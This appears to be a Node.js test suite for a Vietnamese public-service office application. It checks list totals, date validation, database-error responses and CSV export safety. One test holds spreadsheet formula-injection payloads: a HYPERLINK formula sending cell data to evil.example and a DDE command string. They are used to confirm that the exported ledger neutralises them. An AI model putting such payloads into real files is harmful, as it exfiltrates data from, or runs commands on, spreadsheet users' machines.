// Store error discipline: every list shows all its rows with the right total,
// and a read the database cannot finish answers the error shape (5xx, a
// stable code), never a short or empty 200.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { startServer, cli, openCounter, SOURCE, PASSWORDS, sqlite } from './lib/harness.mjs';
import { columnNames } from './lib/pg.mjs';
import { DOSSIER_BUNDLE } from './lib/dossier-bundle.mjs';

// Twelve processing offices: more than one page of five, more than the
// four kinds of list the set-up table once had.
const OFFICES = Array.from({ length: 12 }, (_, i) => ({
  code: `PB${String(i + 1).padStart(2, '0')}`, name: `Phòng ban số ${i + 1}`, kind: i % 4 === 3 ? 'partner' : 'internal',
}));
const BUNDLE = { ...DOSSIER_BUNDLE, offices: [...DOSSIER_BUNDLE.offices, ...OFFICES] };

// Runs SQL read-write on the database, as an operator (or a failing disk)
// might change it under the running server.
function sqlWrite(db, query) {
  sqlite(db, query, { json: false });
}

// Makes row `id` of `table` unreadable: the table becomes a view that fails
// ("integer overflow"; PostgreSQL's "bigint out of range") when any column
// of that row is read (each column keeps its type: the failing branch is a
// condition, its value NULL), so a scan gets its first rows and then an
// error, as with a bad sector mid-table.
function breakRow(s, table, id) {
  const cols = columnNames(s.db, table);
  const sel = cols.map((c) => (c === 'id' ? 'id'
    : `CASE WHEN id <> ${id} THEN "${c}" WHEN abs(id - ${id} - 9223372036854775807 - 1) > 0 THEN NULL END AS "${c}"`));
  sqlWrite(s.db, `ALTER TABLE ${table} RENAME TO ${table}_intact;`
    + ` CREATE VIEW ${table} AS SELECT ${sel.join(', ')} FROM ${table}_intact;`);
}

// Takes a table away (renamed), as a failed migration or a damaged schema
// would: every statement on it fails to prepare.
function hideTable(s, table) {
  sqlWrite(s.db, `ALTER TABLE ${table} RENAME TO ${table}_hidden;`);
}

function assertServerError(r, what) {
  assert.ok(r.status >= 500 && r.status < 600, `${what}: expected 5xx, got ${r.status} ${r.text.slice(0, 300)}`);
  assert.equal(typeof r.json?.error?.code, 'string', `${what}: error shape: ${r.text.slice(0, 300)}`);
  assert.equal(r.json.error.code, 'store_error', what);
}

let s;
before(async () => { s = await startServer({ bundle: BUNDLE }); });
after(async () => { await s.stop(); s.cleanup(); });

test('GET /api/v1/offices lists every imported office with the right total, page by page', async () => {
  const all = await s.as('admin', 'GET', '/api/v1/offices?limit=100');
  assert.equal(all.status, 200, all.text);
  // The list is the whole office tree: the root and the one centre the
  // bundle's "office" made (the small case), the processing offices below
  // the centre, partners below the root (docs/province.md).
  const root = 'TINH', centre = BUNDLE.office.code;
  const parentOf = new Map([[root, null], [centre, root],
    ...BUNDLE.offices.map((o) => [o.code, o.kind === 'partner' ? root : centre])]);
  assert.deepEqual(Object.fromEntries(all.json.items.map((o) => [o.code, o.parent])),
    Object.fromEntries(parentOf));
  // Its order (docs/api.md): a parent before its children, siblings by sort
  // then name (as SQLite compares text: byte by byte).
  const byCode = new Map(all.json.items.map((o) => [o.code, o]));
  const sibling = (a, b) => (a.sort - b.sort) || Buffer.compare(Buffer.from(a.name), Buffer.from(b.name));
  const tree = [];
  const walk = (code) => {
    tree.push(code);
    [...parentOf].filter(([, p]) => p === code).map(([c]) => byCode.get(c))
      .sort(sibling).forEach((o) => walk(o.code));
  };
  walk(root);
  assert.equal(all.json.total, parentOf.size);
  assert.equal(tree.length, parentOf.size);
  assert.deepEqual(all.json.items.map((o) => o.code), tree);
  for (const o of all.json.items) {
    assert.equal(o.depth, o.parent === null ? 0 : byCode.get(o.parent).depth + 1, `${o.code} depth`);
  }
  for (const o of BUNDLE.offices) {
    const got = all.json.items.find((i) => i.code === o.code);
    assert.equal(got.name, o.name);
    assert.equal(got.kind, o.kind ?? 'internal');
  }
  const last = await s.as('sup', 'GET', '/api/v1/offices?offset=15&limit=5');
  assert.equal(last.status, 200, last.text);
  assert.equal(last.json.total, tree.length);
  assert.deepEqual(last.json.items.map((o) => o.code), tree.slice(15, 20));
});

test('each set-up list route shows all its rows and a total that agrees', async () => {
  const lists = [
    ['/api/v1/service-groups', BUNDLE.service_groups.map((g) => g.code), (i) => i.code],
    ['/api/v1/counters', BUNDLE.counters.map((c) => c.no), (i) => i.no],
    ['/api/v1/users', ['admin', ...BUNDLE.users.map((u) => u.username)], (i) => i.username],
    ['/api/v1/devices', BUNDLE.devices.map((d) => d.name), (i) => i.name],
    ['/api/v1/offices', [...BUNDLE.offices.map((o) => o.code), 'TINH', BUNDLE.office.code], (i) => i.code],
    ['/api/v1/procedures', BUNDLE.procedures.map((p) => p.code), (i) => i.code],
  ];
  for (const [path, want, key] of lists) {
    const r = await s.as('admin', 'GET', `${path}?limit=100`);
    assert.equal(r.status, 200, `${path}: ${r.text}`);
    assert.equal(r.json.total, want.length, `${path} total`);
    assert.deepEqual(r.json.items.map(key).sort(), [...want].sort(), `${path} items`);
  }
});

const APPLICANT = { name: 'Lê Thị Hoa', id_number: '045199001122', address: 'Thôn Tân Hợp, xã Tân Hợp',
  phone: '0912345678' };
const intake = (applicant) => s.as('clerk1', 'POST', '/api/v1/dossiers',
  { body: { procedure: 'P5', applicant: { ...APPLICANT, ...applicant }, outcome: 'received', confirm_duplicate: true } });

test('an impossible date in any date filter of the dossier list is a 400 naming the filter', async () => {
  for (const key of ['received_from', 'received_to', 'due_before']) {
    for (const bad of ['2026-02-30', '2025-02-29', '2026-04-31', '2026-13-01', '2026-00-10']) {
      const r = await s.as('sup', 'GET', `/api/v1/dossiers?${key}=${bad}`);
      assert.equal(r.status, 400, `${key}=${bad}: ${r.status} ${r.text}`);
      assert.equal(r.json.error.code, 'invalid_date', `${key}=${bad}`);
      assert.match(r.json.error.message_en, new RegExp(key), `${key}=${bad} names the filter`);
    }
    const ok = await s.as('sup', 'GET', `/api/v1/dossiers?${key}=2024-02-29`);
    assert.equal(ok.status, 200, `${key}=2024-02-29 is a real day: ${ok.text}`);
  }
  const epoch = await s.as('sup', 'GET', '/api/v1/dossiers?due_before=1790000000');
  assert.equal(epoch.status, 200, epoch.text);
  // The ledger and the indicators read their periods with the same parser.
  for (const p of ['/api/v1/ledger.csv', '/api/v1/indicators', '/api/v1/indicators/staffing']) {
    const q = p.endsWith('staffing') ? 'date=2026-02-30' : 'from=2026-02-30&to=2026-03-31';
    const r = await s.as('sup', 'GET', `${p}?${q}`);
    assert.equal(r.status, 400, `${p}?${q}: ${r.text}`);
    const good = p.endsWith('staffing') ? 'date=2026-02-28' : 'from=2026-02-28&to=2026-03-31';
    assert.equal((await s.as('sup', 'GET', `${p}?${good}`)).status, 200, `${p}?${good}`);
  }
});

test('the ledger CSV opens safely in a spreadsheet: formulas neutralised, BOM, header, file name', async () => {
  const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', '+84 912 345 678', '@SUM(A1:A9)', '-2+3+cmd|"/C calc"!A0'];
  for (const name of names) {
    const r = await intake({ name, address: `@${name}` });
    assert.equal(r.status, 201, r.text);
  }
  const r = await s.as('clerk1', 'GET', '/api/v1/ledger.csv?from=2000-01-01&to=2099-12-31');
  assert.equal(r.status, 200, r.text);
  assert.match(r.headers['content-type'], /^text\/csv; charset=utf-8/);
  assert.equal(r.headers['content-disposition'], 'attachment; filename="so-theo-doi-2000-01-01-2099-12-31.csv"');
  assert.ok(r.text.startsWith('\uFEFFline,code,procedure,'), `BOM then header: ${JSON.stringify(r.text.slice(0, 40))}`);
  for (const name of names) {
    const cell = `"'${name.replaceAll('"', '""')}"`;
    assert.ok(r.text.includes(cell), `${name} as ${cell}`);
    assert.ok(r.text.includes(`"'@${name.replaceAll('"', '""')}"`), `address @${name}`);
  }
  // No cell anywhere begins with a character a spreadsheet would run.
  assert.doesNotMatch(r.text, /(^|,)"[=+\-@\t\r]/m);
});

// A second office whose tables are broken one by one under the running server.
test('a read the database cannot finish answers the error shape, never a short 200', async () => {
  const b = await startServer({ bundle: BUNDLE });
  try {
    // A set-up list.
    assert.equal((await b.as('admin', 'GET', '/api/v1/offices?limit=100')).json.items.length, BUNDLE.offices.length + 2);
    breakRow(b, 'offices', 3);
    assertServerError(await b.as('admin', 'GET', '/api/v1/offices?limit=100'), 'offices list');
    // An intake reads the office tree (its centre, authority, hand-over): the
    // damaged row is mended before the dossier part below.
    const damaged = await b.as('clerk1', 'POST', '/api/v1/dossiers', { body: { procedure: 'P5', applicant: APPLICANT, outcome: 'received', confirm_duplicate: true } });
    assertServerError(damaged, 'intake over a damaged office tree');
    assert.equal(b.sql('SELECT count(*) AS n FROM dossiers')[0].n, 0, 'nothing taken in');
    sqlWrite(b.db, 'DROP VIEW offices; ALTER TABLE offices_intact RENAME TO offices;');
    // The clerk's own centre damaged: a row the store cannot read does not
    // log its staff out (401) nor make their password wrong: their requests
    // and a new login answer the store error, and the session outlives it.
    const centreId = b.sql(`SELECT id FROM offices WHERE code = '${BUNDLE.office.code}'`)[0].id;
    assert.equal((await b.as('clerk1', 'GET', '/api/v1/dossiers')).status, 200);
    breakRow(b, 'offices', centreId);
    assertServerError(await b.as('clerk1', 'GET', '/api/v1/dossiers'), 'a clerk of the damaged centre');
    assertServerError(await b.req('POST', '/api/v1/session',
      { body: { username: 'clerk1', password: PASSWORDS.clerk1 } }), 'a login at the damaged centre');
    sqlWrite(b.db, 'DROP VIEW offices; ALTER TABLE offices_intact RENAME TO offices;');
    assert.equal((await b.as('clerk1', 'GET', '/api/v1/dossiers')).status, 200, 'the session after the mend');
    // The print lists: a statement that cannot be prepared is no empty page.
    const printLists = ['/api/v1/print-jobs', '/api/v1/printers'];
    for (const path of printLists) {
      const r = await b.as('sup', 'GET', path);
      assert.equal(r.status, 200, `${path}: ${r.text}`);
      assert.equal(r.json.total, 0);
    }
    hideTable(b, 'print_jobs'); // both lists read it
    for (const path of printLists) assertServerError(await b.as('sup', 'GET', path), path);
    // The dossier list, the ledger and the citizen's lookup; the audit.
    const made = [];
    for (let i = 0; i < 3; i++) {
      const r = await b.as('clerk1', 'POST', '/api/v1/dossiers', { body: { procedure: 'P5', applicant: APPLICANT, outcome: 'received', confirm_duplicate: true } });
      assert.equal(r.status, 201, r.text);
      made.push(r.json);
    }
    const ledgerPath = '/api/v1/ledger.csv?from=2000-01-01&to=2099-12-31';
    assert.equal((await b.as('sup', 'GET', '/api/v1/dossiers')).json.total, 3);
    assert.equal((await b.as('sup', 'GET', ledgerPath)).text.trim().split('\n').length, 4);
    // The audit: a chain that cannot be read to its end is not "intact".
    const intact = cli(['audit-verify', '--db', b.db]);
    assert.equal(intact.status, 0, intact.stderr);
    breakRow(b, 'events', 3);
    const r = cli(['audit-verify', '--db', b.db]);
    assert.notEqual(r.status, 0, `audit-verify on an unreadable chain: ${r.stdout}`);
    assert.doesNotMatch(r.stdout, /^ok/);
    assert.match(r.stderr, /store_error/);
    // Indicators: the period around today, office time (UTC+7).
    const today = new Date(Date.now() + 7 * 3600e3).toISOString().slice(0, 10);
    const indPath = `/api/v1/indicators?from=${today.slice(0, 8)}01&to=${today}`;
    const ind = await b.as('sup', 'GET', indPath);
    assert.equal(ind.status, 200, ind.text);
    assert.equal(ind.json.dossiers.total.received, 3);
    assert.equal((await b.req('GET', '/api/v1/public/transparency')).status, 200);
    const id2 = b.sql(`SELECT id FROM dossiers WHERE code = '${made[1].dossier.code}'`)[0].id;
    breakRow(b, 'dossiers', id2);
    assertServerError(await b.as('sup', 'GET', '/api/v1/dossiers'), 'dossier list');
    assertServerError(await b.as('sup', 'GET', ledgerPath), 'ledger');
    assertServerError(await b.as('sup', 'GET', indPath), 'indicators');
    assertServerError(await b.req('GET', '/api/v1/public/transparency'), 'transparency');
    assertServerError(await b.req('GET', `/api/v1/public/dossiers/${made[1].dossier.code}?secret=${made[1].secret}`), 'public lookup');
    // The calendar's list of named days.
    assert.equal((await b.as('sup', 'GET', '/api/v1/calendar/2026')).status, 200);
    hideTable(b, 'calendar_overrides');
    assertServerError(await b.as('sup', 'GET', '/api/v1/calendar/2026'), 'calendar year');
  } finally {
    await b.stop();
    b.cleanup();
  }
});

test('queue reads: metrics, a ticket lookup and a call report a damaged store; the board keeps its last good view', async () => {
  const q = await startServer();
  try {
    const ids = [];
    for (let i = 0; i < 3; i++) {
      const r = await q.as('kiosk-1', 'POST', '/api/v1/tickets', { body: { group: 'CT' } });
      assert.equal(r.status, 201, r.text);
      ids.push(r.json.ticket?.id ?? r.json.id);
    }
    const m = await q.req('GET', '/metrics');
    assert.equal(m.status, 200, m.text);
    assert.match(m.text, /motcua_waiting\{group="CT"\} 3/);
    const pub = await q.req('GET', `/api/v1/public/tickets/${ids[2]}`);
    assert.equal(pub.status, 200, pub.text);
    assert.equal(pub.json.people_ahead, 2);
    const board = await q.as('board-1', 'GET', '/api/v1/queue');
    assert.equal(board.status, 200, board.text);
    await openCounter(q, 'clerk1', 1);

    breakRow(q, 'tickets', ids[0]);
    assertServerError(await q.req('GET', '/metrics'), 'metrics');
    assertServerError(await q.req('GET', `/api/v1/public/tickets/${ids[0]}`), 'public ticket');
    // Calling the next ticket cannot read who waits: an error, not "nobody is waiting".
    assertServerError(await q.as('clerk1', 'POST', '/api/v1/counters/1/call', { body: {} }), 'call next');
    const after = await q.as('board-1', 'GET', '/api/v1/queue');
    assert.equal(after.status, 200, after.text);
    assert.equal(after.json.groups.find((g) => g.code === 'CT').waiting, 3, 'the last good view, not a short one');
  } finally {
    await q.stop();
    q.cleanup();
  }
});

// The rule behind the tests above, checked on the source so a new loop
// cannot slip back: a row loop of the store either goes through store_next
// (then store_scan_end) or keeps the step's result to check it after.
test('no row loop in core/src/store stops at the first non-row unchecked', () => {
  const dir = path.join(SOURCE, 'core/src/store');
  const bad = [];
  for (const f of readdirSync(dir).filter((n) => n.endsWith('.c'))) {
    readFileSync(path.join(dir, f), 'utf8').split('\n').forEach((line, i) => {
      if (/while\s*\(.*sqlite3_step\(\w+\)\s*==\s*SQLITE_ROW/.test(line)) bad.push(`${f}:${i + 1}: ${line.trim()}`);
    });
  }
  assert.deepEqual(bad, [], 'use store_next/store_scan_end (store/scan.h)');
});
